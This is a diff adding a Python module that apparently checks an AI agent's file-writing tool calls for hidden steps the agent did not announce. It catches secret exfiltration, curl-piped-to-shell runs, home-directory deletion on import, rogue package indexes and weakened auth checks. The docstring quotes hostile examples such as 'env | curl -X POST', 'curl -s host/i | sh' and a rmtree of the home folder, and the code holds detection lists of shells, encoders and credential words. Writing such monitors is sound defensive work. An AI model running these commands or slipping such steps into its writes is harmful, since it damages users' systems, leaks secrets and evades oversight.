@@ -1,0 +1,257 @@
+"""Cargo: steps the text a write carries takes of its own, beyond the announced change
+(round 28, rule ``ungrounded-call``; read after ``payload``'s shapes).
+
+The text an edit adds, or a file a call writes whole, is read for what running, building or
+importing it does. Each shape below refuses unless the announcement says it (its words, by
+name or value):
+
+- a command line of a written build or CI file (a YAML ``run:`` line or block, a Dockerfile
+  ``RUN``) or a string of code that takes a step of a kind ([payload-kinds]) no announced verb
+  covers ("add a CI workflow for the tests" sends nothing: ``env | curl -X POST ...``);
+- fetched code run: a command that pipes what a fetching program downloads into a shell or an
+  interpreter (``curl -s host/i | sh``), unless a verb of installing is announced;
+- a changing step (a delete, a send, ...) called at a whole file's top level (no indentation):
+  it runs when the file is imported, not when a function the announcement names is called
+  (``shutil.rmtree(os.path.expanduser('~'))`` in ``conftest.py``);
+- a secret of a CI file (``${{ secrets.X }}``) on a command line that prints it or pipes it to
+  an encoder (``echo ... | base64``); a secret handed to a program as ``env:`` is no step;
+- every permission a workflow can hold (``permissions: write-all``);
+- a package source: an index option of a requirements file (``--extra-index-url``), a direct
+  reference (``requests @ https://...``), an index setting (``PIP_INDEX_URL``), or a Dockerfile
+  base image from a registry host (``FROM evilhub.io/python``), whose host the announcement does
+  not say;
+- an authentication check undone: a credential-named value compared with a string literal
+  (``token == "letmein"``), a privilege-named setting set true (``user.is_admin = True``), a
+  raise or abort of a denial the old text holds and the new one drops, a logger turned off,
+  a credential-named value logged or printed, the whole environment returned, ``eval`` or
+  ``exec`` of what is not a literal.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Mapping
+from typing import Any
+
+from .kinds import code_kinds, command_kinds, commands, name_words
+from .kindsfile import section
+from .preamble import Announcement
+from .riders import _LINE, _said_words, _written
+from .words import covers
+
+__all__ = ["carried_cargo"]
+
+_RUN_LINE = re.compile(r"^(?P<ind>\s*)(?:-\s*)?run\s*:\s*(?P<cmd>.*)$")
+"""A YAML step's command (``- run: npm test``; ``run: |`` opens a block)."""
+_DOCKER_RUN = re.compile(r"^\s*RUN\s+(?P<cmd>.+)$")
+_STRING = re.compile(r"'([^'\\\n]*)'|\"([^\"\\\n]*)\"")
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node",
+                     "perl", "ruby", "php", "pwsh", "iex"})
+"""Programs that run the code piped into them."""
+_SECRET = re.compile(r"\$\{\{\s*secrets\.\w+\s*\}\}")
+_ENCODERS = frozenset({"base64", "xxd", "od", "hexdump", "rev", "gzip", "openssl"})
+"""Programs that re-encode what a secret prints, past a CI log's masking."""
+_WRITE_ALL = re.compile(r"^\s*permissions\s*:\s*['\"]?write-all['\"]?\s*$")
+_INDEX_OPTION = re.compile(r"^\s*(?P<opt>--(?:extra-)?index-url|-i|--find-links|-f|--trusted-host)"
+                           r"(?:\s+|=)(?P<src>\S+)")
+_DIRECT = re.compile(r"^\s*[A-Za-z0-9][\w.\-\[\], ]*\s@\s*(?P<src>(?:https?|git\+\w+|file)://\S+)")
+_FROM = re.compile(r"^\s*FROM\s+(?:--platform=\S+\s+)?(?P<src>[\w.-]+[.:][\w.:-]*)/\S+",
+                   re.IGNORECASE)
+_SUBSCRIPT = re.compile(r"""^\s*[\w.]+\[\s*['"](?P<name>\w+)['"]\s*\]\s*=\s*(?P<value>.+)$""")
+"""A setting made by subscript (``os.environ['PIP_INDEX_URL'] = ...``)."""
+_CREDENTIAL = frozenset({"token", "password", "passwd", "pwd", "pw", "secret", "passphrase",
+                         "cvv", "cvc", "apikey", "otp", "passcode", "pin"})
+"""Words of a name that holds a credential."""
+_COMPARED = re.compile(r"(?P<a>[A-Za-z_][\w.]*)\s*(?:==|===)\s*(?P<q>['\"])(?P<lit>[^'\"]+)(?P=q)"
+                       r"|(?P<q2>['\"])(?P<lit2>[^'\"]+)(?P=q2)\s*(?:==|===)\s*(?P<b>[A-Za-z_][\w.]*)")
+_UNSAFE = frozenset({"unverified", "insecure", "noverify"})
+"""Words of a value that turns verification off (``ssl._create_unverified_context``)."""
+_TRUE = frozenset({"true", "1", "yes", "on"})
+_DENIAL = re.compile(r"^\s*(?:raise\s+(?P<exc>[\w.]+)|(?:abort|throw\s+new)\s*\(?\s*(?P<arg>[\w.]+))")
+_DENIAL_WORDS = frozenset({"unauthorized", "unauthorised", "forbidden", "denied", "permission",
+                           "unauthenticated", "authentication", "401", "403"})
+"""Words of an exception or abort that refuses a caller."""
+_LOG_OFF = re.compile(r"(?:getLogger\([^)]*\)|\blog\w*)\.disabled\s*=\s*True|logging\.disable\(")
+_LOGGED = re.compile(r"(?<![\w.])(?:print|console\.log|(?:log|logger|logging|LOG|LOGGER)\.\w+)\s*\(")
+_ENVIRON = re.compile(r"^\s*return\s+(?:dict\(\s*os\.environ\s*\)|os\.environ(?:\.copy\(\))?|"
+                      r"process\.env)\s*;?\s*$")
+_EVAL = re.compile(r"(?<![\w.])(?:eval|exec)\s*\((?!\s*['\"][^'\"]*['\"]\s*\))")
+
+
+def _said(ann: Announcement) -> tuple[set[str], str]:
+    said = _said_words(ann)
+    return said, " ".join(w.strip("`\"'").casefold() for w in (*ann.objects, *ann.observed))
+
+
+def _yaml_commands(lines: list[str]) -> list[str]:
+    """The commands of a YAML file's ``run:`` steps (a block's lines each one)."""
+    out: list[str] = []
+    block: int | None = None
+    for line in lines:
+        if block is not None:
+            if line.strip() and len(line) - len(line.lstrip()) > block:
+                out.append(line.strip())
+                continue
+            block = None
+        m = _RUN_LINE.match(line)
+        if m is None:
+            continue
+        cmd = m.group("cmd").strip()
+        if cmd in ("|", ">", "|-", ">-", "|+"):
+            block = len(m.group("ind"))
+        elif cmd:
+            out.append(cmd.strip("'\""))
+    return out
+
+
+def _command_lines(new: str, lines: list[str]) -> list[str]:
+    """Commands a written text holds: its CI ``run:`` steps, its Dockerfile ``RUN`` lines and
+    the strings of its code that hold a space."""
+    added = set(lines)
+    out = [c for c in _yaml_commands(new.splitlines()) if any(c in x for x in added)]
+    out += [m.group("cmd") for x in lines if (m := _DOCKER_RUN.match(x))]
+    out += [a or b for x in lines for a, b in _STRING.findall(x) if " " in (a or b).strip()]
+    return out
+
+
+def _fetched_run(command: str) -> bool:
+    """A segment that fetches piped into a program that runs what it reads."""
+    parts = [p for seg in commands(command) for p in seg.split("|")]
+    for before, after in zip(parts, parts[1:], strict=False):
+        try:
+            words = shlex.split(after)
+        except ValueError:
+            words = after.split()
+        words = [w for w in words if w not in ("sudo", "-", "-s")]
+        if words and words[0].rsplit("/", 1)[-1] in _SHELLS and "fetch" in command_kinds(before):
+            return True
+    return False
+
+
+def _secret_shown(command: str) -> bool:
+    """A CI secret printed (``echo`` as the last step) or piped to an encoder."""
+    if not _SECRET.search(command):
+        return False
+    parts = command.split("|")
+    for i, part in enumerate(parts):
+        if not _SECRET.search(part):
+            continue
+        rest = [p.split() for p in parts[i + 1:]]
+        if any(w and w[0] in _ENCODERS and not {"-d", "--decode", "-D"} & set(w) for w in rest):
+            return True
+        words = part.split()
+        if words and words[0] in ("echo", "printf") and not rest and ">" not in part:
+            return True
+    return False
+
+
+def _credential(name: str) -> bool:
+    return bool({w.casefold() for w in name_words(name.rsplit(".", 1)[-1])} & _CREDENTIAL)
+
+
+def _auth_undone(old: str, new: str, lines: list[str], said: set[str], spoken: str,
+                 path: str) -> str | None:
+    """An added line that lets a caller past a check, or drops one (module docstring)."""
+    testing = "test" in path.casefold() or "conftest" in path.casefold()
+    privilege = section("privilege")
+    for line in lines:
+        for m in _COMPARED.finditer(line):
+            var, lit = (m.group("a"), m.group("lit")) if m.group("a") else (m.group("b"),
+                                                                             m.group("lit2"))
+            if _credential(var) and not testing and lit.casefold() not in spoken \
+                    and not line.lstrip().startswith("assert"):
+                return f"compares {var!r} with the literal {lit!r}"
+        s = _LINE.match(line)
+        if s is not None and s.group("value").strip("\"'").casefold() in _TRUE | privilege:
+            raised = {w.casefold() for w in name_words(s.group("name"))} & privilege
+            if raised and not raised & said and not testing:
+                return f"sets {s.group('name')!r} to {s.group('value')!r}"
+        if s is not None and {w.casefold() for w in name_words(s.group("value"))} & _UNSAFE \
+                and not _UNSAFE & said:
+            return f"sets {s.group('name')!r} to {s.group('value')[:40]!r}"
+        if _LOG_OFF.search(line) and not {"log", "logging", "logger", "audit"} & said:
+            return f"turns a logger off ({line.strip()[:40]!r})"
+        if _LOGGED.search(line) and not testing:
+            names = re.findall(r"[A-Za-z_][\w.]*", line[_LOGGED.search(line).end():])  # type: ignore[union-attr]
+            hit = next((n for n in names if _credential(n)
+                        and not {w.casefold() for w in name_words(n)} & said), None)
+            if hit is not None:
+                return f"logs {hit!r}, a credential"
+        if _ENVIRON.match(line) and not {"environment", "env", "environ"} & said:
+            return "returns the whole environment"
+        if _EVAL.search(line) and not {"eval", "exec"} & said:
+            return f"evaluates code it is given ({line.strip()[:40]!r})"
+    kept = {x.strip() for x in new.splitlines()}
+    for line in old.splitlines():
+        m = _DENIAL.match(line)
+        if m is None or line.strip() in kept:
+            continue
+        words = {w.casefold() for w in name_words(m.group("exc") or m.group("arg") or "")}
+        if words & _DENIAL_WORDS and not words & said:
+            return f"drops {line.strip()[:40]!r}, which refuses a caller"
+    return None
+
+
+def _source(lines: list[str], said: set[str], spoken: str) -> str | None:
+    """A package source or base-image registry a written text names (module docstring)."""
+    for line in lines:
+        m = _INDEX_OPTION.match(line) or _DIRECT.match(line) or _FROM.match(line)
+        src = m.group("src") if m is not None else None
+        if src is None:
+            s = _LINE.match(line) or _SUBSCRIPT.match(line)
+            words = {w.casefold() for w in name_words(s.group("name"))} if s else set()
+            if s is not None and ({"index", "url"} <= words or "registry" in words) \
+                    and "://" in s.group("value"):
+                src = s.group("value")
+        if src is None:
+            continue
+        host = re.sub(r"^[\w+]+://", "", src.strip("'\"")).split("/", 1)[0].split("@")[-1]
+        if host.casefold() not in spoken and not {"index", "registry", "mirror"} & said:
+            return f"takes packages from {host!r}"
+    return None
+
+
+def carried_cargo(name: str, args: Mapping[str, Any], kinds: frozenset[str],
+                  ann: Announcement) -> str | None:
+    """Why the text a writing call adds takes a step of its own the announcement does not say,
+    or None (module docstring)."""
+    if not kinds & {"write", "create"}:
+        return None
+    verb_kinds = {k for _v, k in ann.verbs if k}
+    said, spoken = _said(ann)
+    path = " ".join(str(v) for k, v in args.items() if isinstance(v, str) and len(v) < 300
+                    and set(name_words(k)) & {"path", "file", "filename", "target"})
+    for old, new in _written(args, one_line=True):
+        before = {x.strip() for x in old.splitlines()}
+        lines = [x for x in new.splitlines() if x.strip() and x.strip() not in before]
+        why = None
+        for command in _command_lines(new, lines):
+            step = next((k for k in sorted(command_kinds(command) & section("payload-kinds"))
+                         if not covers(verb_kinds, k)), None)
+            if step is not None:
+                why = f"runs {command.strip()[:40]!r}, a step of kind {step!r}"
+            elif _fetched_run(command) and not covers(verb_kinds, "install"):
+                why = f"runs code {command.strip()[:40]!r} fetches"
+            elif _secret_shown(command) and not {"secret", "secrets", "token"} & said:
+                why = f"prints a secret ({command.strip()[:40]!r})"
+            if why is not None:
+                break
+        if why is None and not old:
+            for line in lines:
+                if line[:1].isspace() or line.lstrip().startswith(("#", "def ", "class ", "@")):
+                    continue
+                step = next((k for k in sorted(code_kinds(line) & section("payload-kinds"))
+                             if not covers(verb_kinds, k)), None)
+                if step is not None:
+                    why = f"runs {line.strip()[:40]!r} on import, a step of kind {step!r}"
+                    break
+        if why is None and not ann.universal:
+            hit = next((x for x in lines if _WRITE_ALL.match(x)), None)
+            if hit is not None and "write-all" not in spoken:
+                why = "grants every permission ('write-all')"
+        why = why or _source(lines, said, spoken) or _auth_undone(old, new, lines, said, spoken,
+                                                                  path)
+        if why is not None:
+            return f"{name!r} writes text that {why}, which the announcement does not say"
+    return None
